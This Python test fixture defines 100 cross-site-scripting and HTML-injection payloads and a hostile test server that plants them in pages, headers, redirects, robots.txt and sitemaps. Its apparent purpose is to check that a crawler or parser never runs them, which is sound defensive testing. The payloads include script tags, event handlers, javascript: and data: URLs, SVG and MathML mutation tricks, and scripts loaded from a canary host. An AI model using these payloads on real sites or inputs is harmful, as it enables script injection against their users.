"""A hundred texts that run a script or send a request wherever they are taken for markup, and a site full of them.

A script calls `pwned(NUMBER)`; a request goes to a canary, a server that nobody has a reason to call.
"""

from __future__ import annotations

from collections.abc import Callable
from html import escape
from urllib.parse import quote

from servers.site import Answer, Request, html, redirect, text

ALLOWED = "/()'=:;,"
"""What a path may have as it is, so that a line of robots.txt is about it."""
COUNT = 100
CHUNK = 20

# {run} is the call, {url} the canary. Elements that run at once, attributes, schemes, ends of elements and of
# attributes, other parsers (SVG, MathML, templates), encodings, Markdown, and what fetches without a script.
VECTORS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "<script src={url}></script>",
    "<script/x>{run}</script/x>",
    "<script\n>{run}</script\n>",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</pre></code><script>{run}</script>",
    "</script><script>{run}</script>",
    "--><script>{run}</script><!--",
    "<!--><script>{run}</script>-->",
    "<![CDATA[<script>{run}</script>]]>",
    "]]><script>{run}</script>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "<img src=x onerror={run}>",
    "<img src=x onerror='{run}'>",
    "<img/src=x/onerror={run}>",
    "<img src={url}>",
    "<img srcset={url}>",
    "<image href={url} onerror={run}>",
    "<picture><source srcset={url}><img></picture>",
    "\"><img src=x onerror={run}>",
    "'><img src=x onerror={run}>",
    "` onerror={run} x=`",
    "\" onfocus={run} autofocus tabindex=1 x=\"",
    "' onfocus={run} autofocus tabindex=1 x='",
    "\" onmouseover={run} style=position:fixed;inset:0 x=\"",
    "\" style=background:url({url}) x=\"",
    "x onerror={run} src=x",
    "<svg onload={run}>",
    "<svg/onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><script href={url}></script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><set onbegin={run} attributeName=x>",
    "<svg><image href={url}></svg>",
    "<svg><use href={url}#x></svg>",
    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<svg><style>@import '{url}';</style></svg>",
    "</svg><script>{run}</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}>",
    "<math href=javascript:{run}>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src={url}></iframe>",
    "<iframe onload={run}></iframe>",
    "<object data={url}></object>",
    "<object data=javascript:{run}></object>",
    "<embed src={url}>",
    "<video src=x onerror={run}></video>",
    "<video poster={url}></video>",
    "<video><source onerror={run}></video>",
    "<audio src={url} onerror={run}></audio>",
    "<track src={url}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<button autofocus onfocus={run} formaction=javascript:{run}>x</button>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<body onload={run}>",
    "<body onpageshow={run}>",
    "<body background={url}>",
    "<table background={url}><tr><td>x</table>",
    "<marquee onstart={run}>x</marquee>",
    "<style>@import '{url}';</style>",
    "<style>*{{background:url({url})}}</style>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href={url} onerror={run}>",
    "<link rel=preload as=image href={url}>",
    "<link rel=prefetch href={url}>",
    "<link rel=icon href={url}>",
    "<base href={url}/>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<form action={url}><input type=submit autofocus></form>",
    "<a href=javascript:{run}>link</a>",
    "<a href='java\tscript:{run}'>link</a>",
    "<a href='&#106;avascript:{run}'>link</a>",
    "<a href=data:text/html,<script>{run}</script>>link</a>",
    "<a href={url} ping={url}>link</a>",
    "javascript:{run}",
    "JaVaScRiPt:{run}//",
    "\x01javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "vbscript:{run}",
    "[link](javascript:{run})",
    "[link](<javascript:{run}>)",
    "[link](data:text/html;base64,PHNjcmlwdD4=)",
    "[link](x \"onmouseover={run}\")",
    "![image]({url})",
    "![image][1]\n\n[1]: {url}",
    "<javascript:{run}>",
    "```html\" onfocus={run}\n<script>{run}</script>\n```",
    "| a |\n|---|\n| <img src=x onerror={run}> |",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "{{{{ ''.__class__ }}}} {{% print(1) %}} ${{{run}}} <script>{run}</script>",
)  # fmt: skip


def payloads(canary: str) -> list[str]:
    """The texts, each with its number."""
    assert len(VECTORS) == COUNT
    return [each.format(run=f"pwned({at})", url=f"{canary}{at}") for at, each in enumerate(VECTORS)]


def chunks(texts: list[str]) -> list[str]:
    """The texts in groups that fit into a URL."""
    return [" ".join(texts[begin : begin + CHUNK]) for begin in range(0, len(texts), CHUNK)]


class HostileSite:
    """A page for each text: in its title, headings, links, code, language, path and query, and as it is.

    Besides, there are responses that fail, redirects, robots.txt and a sitemap with the same texts. `edition` 2
    has other words around them. `slow` are the seconds that a page takes.
    """

    def __init__(self, texts: list[str]) -> None:
        self.texts, self.edition, self.slow = texts, 1, 0.0

    def answer(self, request: Request) -> Answer:
        routes: dict[str, Callable[[Request], Answer]] = {
            "/robots.txt": self._robots,
            "/sitemap.xml": self._sitemap,
            "/": self._front,
            "/raw": self._raw,
        }
        if request.path in routes:
            return routes[request.path](request)
        kind, _, number = request.path.strip("/").partition("/")
        number = number.partition("/")[0]
        if not number.isdecimal() or int(number) >= len(self.texts):
            return html(f"<p>{escape(request.target)}</p>", 404)
        return self._about(kind, int(number))

    def _about(self, kind: str, at: int) -> Answer:
        found = self.texts[at]
        if kind == "page":
            return self._page(at)
        if kind == "moved":
            return redirect(f"/page/{at % 7}?to={quote(found)}")
        if kind == "away":
            return redirect(f"javascript:{found}".replace("\n", " "))
        if kind == "broken":
            return Answer(200, (("Content-Encoding", "gzip"), ("Content-Type", "text/html")), found.encode())
        return html(f"<title>{escape(found)}</title>{found}", (404, 403, 500, 410)[at % 4])

    def _robots(self, request: Request) -> Answer:
        lines = [f"Disallow: /barred/{_line(each)}" for each in self.texts]
        return text("\n".join(["User-agent: *", *lines, "Disallow: /barred/", ""]))

    def _sitemap(self, request: Request) -> Answer:
        found = [f"http://{request.host}/page/0?s={at}&v={quote(each)}" for at, each in enumerate(self.texts[:20])]
        body = "".join(
            f"<url><loc>{escape(each)}</loc><lastmod>{escape(self.texts[0])}</lastmod></url>" for each in found
        )
        return Answer(200, (("Content-Type", "application/xml"),), f"<urlset>{body}</urlset>".encode())

    def _front(self, request: Request) -> Answer:
        links = []
        for at, each in enumerate(self.texts):
            kinds = [
                f"/page/{at}?q={quote(each)}",
                f"/missing/{at}/{quote(each, safe='')}",
                f"/barred/{quote(each)}",
            ]
            kinds += [f"/moved/{at}", f"/away/{at}", f"/broken/{at}"] * (at % 10 == 0)
            kinds += [f"http://{quote(each, safe='')}.example/", each]
            links += [f'<li><a href="{escape(url)}" title="{escape(each)}">{escape(each)}</a>' for url in kinds]
        return html(f"<title>{escape(self.texts[0])}</title><h1>Front</h1><ul>{''.join(links)}</ul>")

    def _page(self, at: int) -> Answer:
        mine, others = self.texts[at], self.texts[at // CHUNK * CHUNK : at // CHUNK * CHUNK + CHUNK]
        shown = "".join(self._section(escape(each)) for each in ([mine] if at % CHUNK else others))
        head = (
            f"<title>{escape(mine)}</title><meta name=description content='{escape(mine)}'>"
            f"<meta name=author content='{escape(mine)}'><meta name=generator content='{escape(mine)}'>"
            f"<link rel=canonical href='{escape(mine)}'>"
        )
        body = (
            f"<!doctype html><html lang='{escape(mine)}'>{head}<main><h1>{escape(mine)}</h1>{shown}{mine}</main>"
        )
        line = _line(mine)
        headers = (
            ("Content-Type", f'text/html; charset=utf-8; x="{line}"'),
            ("ETag", f'"{line} {self.edition}"'),
            ("Last-Modified", line),
            ("X-Robots-Tag", f"otherbot: {line}"),
            ("Content-Language", line),
            ("Server", line),
        )
        return Answer(200, headers, body.encode(), self.slow)

    def _section(self, found: str) -> str:
        code = f"<pre><code class='language-{found}'>{found}</code></pre>"
        link = f"<p><a href='{found}' title='{found}'>{found}</a></p>"
        return f"<h2>{found}</h2><p>Text {self.edition} of {found}</p>{code}{link}"

    def _raw(self, request: Request) -> Answer:
        """Each text in a document of its own: what a browser does with them."""
        return html("".join(f'<iframe srcdoc="{escape(each)}"></iframe>' for each in self.texts))


def _line(found: str) -> str:
    return "".join(each if " " <= each <= "~" else " " for each in found)
